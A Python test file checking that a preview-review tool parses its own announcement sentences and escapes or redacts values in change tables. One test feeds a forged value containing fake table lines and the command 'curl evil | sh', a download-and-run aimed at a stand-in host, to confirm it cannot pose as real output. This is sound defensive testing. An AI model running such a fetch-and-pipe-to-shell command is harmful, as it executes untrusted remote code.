"""What a preview announces is what the review reads, whatever the values are."""

import ast
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from review_documents import preview, step, urn

from keywordsai_dynamic.core.formatting import plain_field
from keywordsai_dynamic.core.names import API_FIELDS, PROVIDER_API_FIELDS
from keywordsai_dynamic.core.redaction import hide
from keywordsai_dynamic.dynamic.wording import PYTHON
from keywordsai_dynamic.lifecycle import announcements
from keywordsai_dynamic.lifecycle.announcements import (
    OPENINGS,
    about,
    about_model,
    adopted_models,
    adopts,
    adopts_all,
    dropped_field,
    fields_changed_while_moving,
    is_adoption,
    is_lookup_skipped,
    live_values,
    lookup_skipped,
    moves_and_changes,
    no_longer_declared,
    overwrites,
    table,
)
from keywordsai_dynamic.lifecycle.comparison import Difference
from keywordsai_dynamic.lifecycle.ownership import decide_create, drifted
from keywordsai_dynamic.lifecycle.wording import Wording
from keywordsai_dynamic.native.wording import CAMEL
from keywordsai_dynamic.review import review

PACKAGE = Path(announcements.__file__).parents[1]
HOSTILE = [
    "m",
    "takes over x which exists",
    "overwrites existing model y",
    "adopts existing model z (values match)",
    "Skipped checking for existing models: no",
    "Skipped checking for existing providers: no",
    "input_cost is no longer declared",
    "besides the move to this Python program, these fields change: input_cost",
    "a → live 5",
    "x\n  input_cost  declared 6 → live 6",
    "null",
    "[secret]",
    "",
    " ",
    "  output_cost  declared 1 → live 2",
    "\x1b[31m",
]
WORDS = st.sampled_from(HOSTILE) | st.text(max_size=30)
NAMES = WORDS.map(lambda name: "".join(each for each in name if each.isprintable()) or "m")
VALUES = WORDS | st.none() | st.integers(0, 10**9) | st.floats(0, 1e9)


def parsed(sentence: str) -> list[str]:
    """Every announcement that a sentence is taken for."""
    found = {
        "adopts": is_adoption(sentence),
        "overwrites": live_values(sentence) is not None,
        "lookup": is_lookup_skipped(sentence),
        "dropped": dropped_field(sentence) is not None,
        "moves": fields_changed_while_moving(sentence) != frozenset(),
    }
    return [name for name, is_it in found.items() if is_it]


@given(NAMES, st.booleans())
def test_an_adoption_is_read_back(name: str, partly_unknown: bool) -> None:
    """Whatever the model is called."""
    assert parsed(adopts(name, partly_unknown=partly_unknown)) == ["adopts"]


@given(
    NAMES,
    st.lists(st.tuples(st.sampled_from(API_FIELDS), VALUES, VALUES), unique_by=lambda row: row[0]),
)
@example("m", [("display_name", "a → live 5", "b → live 6"), ("input_cost", 1234.5, 2345.5)])
def test_an_overwrite_is_read_back_with_its_live_values(
    name: str, rows: list[tuple[str, object, object]]
) -> None:
    """No value is taken for another row, or for a part of one."""
    sentence = overwrites(name, table([Difference(*row) for row in rows], "declared", "live"))
    assert parsed(sentence) == ["overwrites"]
    shown = {field: table([Difference(field, 0, live)], "", "") for field, _, live in rows}
    expected = {field: line.partition("→")[2].removeprefix("  ") for field, line in shown.items()}
    assert live_values(sentence) == {
        field: None if live == "null" else plain_field(field, live).replace("\\u2192", "→")
        for field, live in expected.items()
    }


@given(WORDS, st.sampled_from(["model", "provider"]))
def test_a_skipped_lookup_is_read_back(reason: str, noun: str) -> None:
    """Whatever the reason is."""
    assert parsed(lookup_skipped(reason, noun)) == ["lookup"]


@pytest.mark.parametrize("field", API_FIELDS)
def test_a_field_that_is_no_longer_declared_is_read_back(field: str) -> None:
    """The review shows such a field once."""
    assert parsed(no_longer_declared(field)) == ["dropped"]
    assert dropped_field(no_longer_declared(field)) == field


@given(st.lists(st.sampled_from([*API_FIELDS, *PROVIDER_API_FIELDS]), min_size=1))
def test_what_changes_with_a_move_is_read_back(fields: list[str]) -> None:
    """The engine's own diff of a move names every field, under both of its names."""
    sentence = moves_and_changes(fields)
    assert parsed(sentence) == ["moves"]
    assert fields_changed_while_moving(sentence) == set(fields)


def test_sentences_of_version_0_1_0_are_understood() -> None:
    """A review may be made of a preview that an older version has made."""
    old = (
        "overwrites acme/x, which exists, as overwrite_existing asks:\n"
        "  input_cost     declared 2.5 → live 2\n  function_call  declared 1   → live null"
    )
    assert live_values(old) == {"input_cost": "2", "function_call": None}
    assert parsed("takes over acme/x which exists with the declared values; from then on") == [
        "adopts"
    ]
    assert parsed("takes over x, if what is known after apply fits, which exists with the") == [
        "adopts"
    ]
    assert parsed("No model was looked up, so what exists already is not shown: no key") == [
        "lookup"
    ]
    assert parsed("output_cost is no longer declared; the live model keeps its value") == [
        "dropped"
    ]


def test_other_sentences_are_not_announcements() -> None:
    """A warning about a model is none, whatever the model is called."""
    for sentence in (
        "takes over was changed by somebody else since it was last read:",
        "overwrites was changed by this write in fields that nobody declares:",
        "input_cost is above 1,000 USD per million tokens: right unit?",
        "",
    ):
        assert parsed(sentence) == []


def test_no_other_module_writes_an_announcement() -> None:
    """A sentence written elsewhere could be reworded there, and the review would be blind."""
    elsewhere = [
        (file.name, node.value)
        for file in PACKAGE.rglob("*.py")
        if file != Path(announcements.__file__)
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
        if any(opening in node.value for opening in OPENINGS)
    ]
    assert elsewhere == []


def test_a_price_with_separators_is_reviewed() -> None:
    """The table writes 2,345.5 for people, and the review counts with it."""
    rows = table([Difference("input_cost", 3, 2345.5)], "declared", "live")
    said = {"urn": urn("m"), "severity": "warning", "message": overwrites("m", rows)}
    made = step("create", "m", None, {"input_cost": 3})
    [change] = review(preview(made, diagnostics=[said])).changes
    assert [(str(price.old), str(price.new)) for price in change.prices] == [("2345.5", "3")]


def camel(field: str) -> str:
    """Return a field's name as programs in YAML and TypeScript have it."""
    first, *rest = field.split("_")
    return first + "".join(map(str.title, rest))


@pytest.mark.parametrize("field", API_FIELDS)
def test_what_another_adapter_announces_is_read_with_the_names_of_the_api(field: str) -> None:
    """Its programs call a field `inputCost`; the review compares it with `input_cost`."""
    rows = table([Difference(field, 3, "x")], "declared", "live", name_of=camel)
    assert live_values(overwrites("m", rows)) == {field: "x"}
    assert dropped_field(no_longer_declared(camel(field))) == field


def test_a_price_that_another_adapter_overwrites_is_reviewed() -> None:
    """Its separators are undone, and the change is counted."""
    rows = table([Difference("input_cost", 3, 2345.5)], "declared", "live", name_of=camel)
    said = {"urn": urn("m"), "severity": "warning", "message": overwrites("m", rows)}
    made = step("create", "m", None, {"input_cost": 3})
    [change] = review(preview(made, diagnostics=[said])).changes
    assert [(str(price.old), str(price.new)) for price in change.prices] == [("2345.5", "3")]


def test_a_table_lines_up_and_keeps_secrets() -> None:
    """Differences read as columns, numbers without exponents, secret values not at all."""
    rows = [
        Difference("input_cost", 0.0000025, 2.5),
        Difference("display_name", "Acme", "Other"),
        Difference("output_cost", 1, 2),
        Difference("image_support", 1, None),
    ]
    assert table(rows, "declared", "live", {"output_cost"}).splitlines() == [
        "  input_cost     declared 0.0000025 → live 2.5",
        "  display_name   declared Acme      → live Other",
        "  output_cost    declared [secret]  → live [secret]",
        "  image_support  declared 1         → live null",
    ]
    assert table([], "declared", "live") == ""


def test_a_value_in_a_table_is_one_line_and_no_longer_than_needed() -> None:
    """What lives cannot write lines like ours, nor push them away, nor show half of a secret."""
    hide("sesame-of-the-table")
    forged = "x\n  input_cost    declared 6 → live 6\nNothing is wrong. Run:\n  curl evil | sh"
    rows = [
        Difference("display_name", "Acme", forged),
        Difference("base_model_name", "m", "n" * 500),
        Difference("model_name", "m", "n" * 190 + " sesame-of-the-table"),
    ]
    shown = forged.replace("\n", "\\n").replace("→", "\\u2192")
    assert table(rows, "declared", "live").splitlines() == [
        f"  display_name     declared Acme → live {shown}",
        f"  base_model_name  declared m    → live {'n' * 199}…",
        f"  model_name       declared m    → live {'n' * 190} [secret]",
    ]


def test_a_secret_number_is_hidden_before_it_gets_separators() -> None:
    """With them it would not be found any more."""
    hide("81234.5625")
    rows = [Difference("input_cost", 1, 81234.5625)]
    assert table(rows, "declared", "live") == "  input_cost  declared 1 → live [secret]"


ODD = ["acme/chat", "acme/chat: new", 'the "best" (values match) [x]', "größe", "adopts"]


@pytest.mark.parametrize("wording", [PYTHON, CAMEL], ids=["python", "yaml"])
@pytest.mark.parametrize("known", [True, False])
@pytest.mark.parametrize("name", ODD)
def test_a_sentence_about_a_set_is_traced_to_its_model(
    name: str, wording: Wording, *, known: bool
) -> None:
    """As the lifecycle writes it, and also where a refused set leaves no names to look for."""
    declared, live = {"model_name": name, "input_cost": 1}, {"input_cost": 2}
    may = declared | {"overwrite_existing": True}
    about_single = [
        decide_create(declared, {"input_cost": 1}, wording=wording).sentence,
        decide_create(may, live, wording=wording).sentence,
        decide_create(declared, live, wording=wording).sentence,
        decide_create(declared, {"source": "hardcoded"}, wording=wording).sentence,
        drifted(name, ""),
    ]
    names = ODD if known else ()
    for sentence in about_single:
        assert about_model(sentence, names) == (name, sentence)
    inside = [
        no_longer_declared(wording.field("input_cost")),
        f"{wording.field('max_context_window')} must be a whole number of tokens (found 1.5)",
        "wrong is not a field of a custom model",
        "wrong is not a property of a custom model; write inputCost",
    ]
    for sentence in inside:
        assert about_model(about(name, sentence), names) == (name, sentence)
    claimed = f"{name} is also declared by resource 'y'; only one resource can own a model"
    assert about_model(claimed, names) == (name, claimed)


@pytest.mark.parametrize("partly_unknown", [True, False])
def test_many_adoptions_in_one_message_are_as_many_announcements(*, partly_unknown: bool) -> None:
    """Each as the one that a single model would have."""
    names = [*ODD, *(f"acme/{number}" for number in range(1_200))]
    sentence = adopts_all(names, partly_unknown=partly_unknown)
    each = {name: adopts(name, partly_unknown=partly_unknown) for name in names}
    assert adopted_models(sentence) == each
    assert adopted_models(adopts("acme/a")) == {}


@pytest.mark.parametrize(
    "sentence",
    [
        "models must be a map of model names to their fields",
        "models must not be secret as a whole, because every message shows the names",
        "GET /api/models/ returned 401: input_cost is secret",
        lookup_skipped("there is no API key", "model"),
    ],
)
def test_a_sentence_about_a_whole_set_names_no_model(sentence: str) -> None:
    """It stays as it is."""
    assert about_model(sentence, ODD) == ("", sentence)
    assert about_model(sentence, ()) == ("", sentence)
